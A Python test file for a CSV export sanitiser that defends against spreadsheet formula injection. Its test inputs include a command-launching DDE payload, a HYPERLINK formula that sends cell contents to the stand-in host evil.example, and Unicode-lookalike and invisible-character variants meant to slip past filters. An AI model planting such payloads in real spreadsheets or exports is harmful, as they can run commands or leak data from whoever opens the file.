"""CSV exports that open in a spreadsheet without running anything a member wrote."""

import csv
import io

import pytest

from groundswell.core.spreadsheets import safe_cell, write_csv

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    # Lookalikes spreadsheets read as the same: full-width, small forms, the minus sign.
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "﹢1+1",
    "﹣1+1",
    "﹫SUM(A1)",
    "−1+1",
    # Invisible characters in front do not hide a formula.
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
]
PLAIN = ["Maya", "", "Ann-Marie", "a=b", "e@mail.example", "5", "-5", "+15555550123", "3.5", "Hello\n=world"]


@pytest.mark.parametrize("value", FORMULAS)
def test_anything_a_spreadsheet_would_run_is_shown_as_text(value):
    assert safe_cell(value) == f"'{value}"


@pytest.mark.parametrize("value", PLAIN)
def test_ordinary_values_and_plain_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def test_cells_of_any_type():
    assert safe_cell(None) == ""
    assert safe_cell(42) == "42"
    assert safe_cell(-42) == "-42"


def test_write_csv_writes_a_header_and_safe_rows():
    out = io.StringIO()
    write_csv(out, ["name", "=note"], [["＝HYPERLINK(1)", "two\nlines, with a comma"], [None, 7]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "'=note"],
        ["'＝HYPERLINK(1)", "two\nlines, with a comma"],
        ["", "7"],
    ]
